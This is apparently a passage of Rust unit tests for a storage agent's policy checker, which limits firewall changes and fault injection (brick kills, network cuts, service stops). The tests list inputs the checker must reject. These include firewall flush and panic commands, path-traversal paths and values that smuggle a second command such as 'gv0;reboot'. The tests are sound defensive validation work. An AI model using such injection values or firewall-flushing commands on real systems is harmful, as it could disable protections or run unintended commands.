        &["--permanent", "--remove-port=988/tcp"],
        &["--permanent", "--add-service=ssh"],
        &["--panic-on"],
        &["--set-default-zone=trusted"],
        &["--direct", "--passthrough", "ipv4", "-F"],
        &["--permanent", "--zone=trusted", "--add-port=988/tcp", "--add-port=22/tcp"],
        &["--permanent", "--add-port=988/tcp", "--zone=trusted"],
        &["--complete-reload"],
    ] {
        assert_eq!(run(args), Err("program"), "{args:?}");
    }
    assert_eq!(run(&["--permanent", "--zone=../x", "--add-port=988/tcp"]), Err("name"));
    let other = policy.check_action("firewall", &Action::Run(Command::new("iptables").args(["-F"])));
    assert_eq!(other.map_err(|e| e.rule), Err("program"));
    // Nothing but commands.
    let write = Action::Write {
        path: "/etc/firewalld/zones/public.xml".into(),
        contents: String::new(),
        mode: 0o644,
    };
    assert_eq!(policy.check_action("firewall", &write).map_err(|e| e.rule), Err("action-kind"));
}

/// A brick may be killed by `bench --fault` only where the site granted faults, and then only a
/// brick by a data path of a volume by name.
#[test]
fn faults_are_a_grant_and_only_on_bricks() {
    assert_eq!(Policy::default().check_fault_brick("gv0", "/bricks/b1").unwrap_err().rule, "faults-off");
    let granted = Policy::new(Site { faults: true, ..Site::default() }).unwrap();
    assert_eq!(granted.check_fault_brick("gv0", "/bricks/b1"), Ok(()));
    for (volume, path) in [
        ("gv0", "/etc"),
        ("gv0", "/bricks/../etc/b1"),
        ("gv0", "bricks/b1"),
        ("gv0;reboot", "/bricks/b1"),
        ("", "/bricks/b1"),
        ("gv0", "/bricks/b1\n"),
    ] {
        assert!(granted.check_fault_brick(volume, path).is_err(), "{volume:?} {path:?}");
    }
    let narrowed =
        Policy::new(Site { faults: true, data_roots: Some(vec!["/data".into()]), ..Site::default() })
            .unwrap();
    assert!(narrowed.check_fault_brick("gv0", "/bricks/b1").is_err(), "outside the site's data roots");
    assert!(
        granted
            .describe()
            .iter()
            .any(|l| l == "faults (bench --fault killing this node's bricks, cutting its network, stopping its services): allowed")
    );
}

/// A network cut only where faults are granted, of one interface by the kernel's grammar,
/// never the loopback, for a bounded time.
#[test]
fn a_network_cut_is_a_grant_and_bounded() {
    assert_eq!(Policy::default().check_fault_network("eth0", 10).unwrap_err().rule, "faults-off");
    let granted = Policy::new(Site { faults: true, ..Site::default() }).unwrap();
    for ok in ["eth0", "ib0", "ens5", "bond0.100", "enp0s31f6"] {
        assert_eq!(granted.check_fault_network(ok, 10), Ok(()), "{ok}");
    }
    assert_eq!(granted.check_fault_network("eth0", 600), Ok(()));
    assert_eq!(granted.check_fault_network("lo", 10).unwrap_err().rule, "fault-interface");
    for (interface, seconds) in [("eth0", 0), ("eth0", 601), ("eth0", u32::MAX)] {
        assert_eq!(granted.check_fault_network(interface, seconds).unwrap_err().rule, "fault-interface");
    }
    for bad in ["", "../eth0", "eth0;reboot", "eth0 up", "-eth0", "averyveryverylongname", "eth0\n", "eth/0"]
    {
        assert_eq!(granted.check_fault_network(bad, 10).unwrap_err().rule, "name", "{bad:?}");
    }
}

/// A stopped service only where faults are granted, and only a unit pvfs manages.
#[test]
fn a_stopped_service_is_a_grant_and_a_unit_pvfs_manages() {
    assert_eq!(Policy::default().check_fault_service("glusterd").unwrap_err().rule, "faults-off");
    let granted = Policy::new(Site { faults: true, ..Site::default() }).unwrap();
    for ok in ["glusterd", "glusterd.service", "beegfs-storage", "lnet"] {
        assert_eq!(granted.check_fault_service(ok), Ok(()), "{ok}");
    }
    for bad in ["sshd", "pvfs-agent", "systemd-networkd", "glusterd;reboot", "../glusterd", "", "glusterd\n"]
    {
        assert!(granted.check_fault_service(bad).is_err(), "{bad:?}");
    }
}

/// A volume's profile: a volume by name, where the site's kinds allow gluster-volume.
#[test]
fn a_gluster_profile_is_a_volume_by_name_where_gluster_volumes_are_allowed() {
    assert_eq!(Policy::default().check_gluster_profile("gv0"), Ok(()));
    for bad in ["", "gv0;reboot", "../gv0", "gv0 start", "-gv0"] {
        assert!(Policy::default().check_gluster_profile(bad).is_err(), "{bad:?}");
    }
    let narrow = Policy::new(Site { kinds: Some(vec!["mount".into()]), ..Site::default() }).unwrap();
    assert_eq!(narrow.check_gluster_profile("gv0").unwrap_err().rule, "kind-not-allowed");
}
